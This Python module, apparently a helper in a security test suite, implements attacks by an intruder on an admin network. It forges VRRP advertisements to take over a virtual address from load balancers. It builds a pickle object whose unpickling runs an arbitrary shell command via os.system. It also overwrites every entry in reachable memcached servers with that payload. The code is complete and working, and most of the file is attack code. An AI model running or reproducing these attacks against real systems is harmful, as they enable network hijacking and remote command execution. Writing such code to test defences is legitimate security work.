# Copyright (c) the reduced.footprint authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Attacks of an intruder on the admin network: connect, announce a virtual address, write a command to a cache."""

from __future__ import annotations

import contextlib
import os
import pickle
import socket
import struct
import time
import typing as t
import urllib.parse

VRRP = 112


def connects(address: str, port: int, source: str | None = None, timeout: float = 3) -> bool:
    """Whether a TCP connection can be established."""
    try:
        with socket.create_connection((address, port), timeout=timeout, source_address=(source, 0) if source else None):
            return True
    except OSError:
        return False


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(source: str, destination: str, router_id: int, virtual_address: str) -> bytes:
    """Return a VRRP announcement, version 3, with the highest priority below that of the owner."""
    body = struct.pack("!BBBBHH", 0x31, router_id, 254, 1, 100, 0) + socket.inet_aton(virtual_address)
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, VRRP, len(body))
    return body[:6] + struct.pack("!H", _checksum(pseudo + body)) + body[8:]


def announce(source: str, destinations: t.Sequence[str], router_id: int, virtual_address: str, seconds: float) -> None:
    """Announce a virtual address to the load balancers, as if this host had it."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP) as sender:
        sender.bind((source, 0))
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for destination in destinations:
                sender.sendto(advertisement(source, destination, router_id, virtual_address), (destination, 0))
            time.sleep(0.3)


class Command:
    """An object that runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> t.Any:
        return os.system, (self.command,)


def planted(command: str) -> bytes:
    """Return the payload that an intruder writes in place of an entry."""
    return pickle.dumps(Command(command), protocol=0)


def converse(address: str, request: bytes, end: bytes) -> bytes:
    """Send a request to a memcached; return its answer."""
    answer = b""
    with socket.create_connection((address, 11211), timeout=5) as stream:
        stream.sendall(request)
        while not answer.endswith((end, b"ERROR\r\n")):
            more = stream.recv(65536)
            if not more:
                break
            answer += more
    return answer


def plant(addresses: t.Sequence[str], payload: bytes, flags: int = 1) -> int:
    """Replace every entry of these memcacheds; return the number of entries."""
    count = 0
    for address in addresses:
        with contextlib.suppress(OSError):
            lines = converse(address, b"lru_crawler metadump all\r\n", b"END\r\n").splitlines()
            for key in [urllib.parse.unquote_to_bytes(line.split()[0][4:]) for line in lines if line.startswith(b"key=")]:
                answer = converse(address, b"set %s %d 0 %d\r\n%s\r\n" % (key, flags, len(payload), payload), b"\r\n")
                count += answer == b"STORED\r\n"
    return count
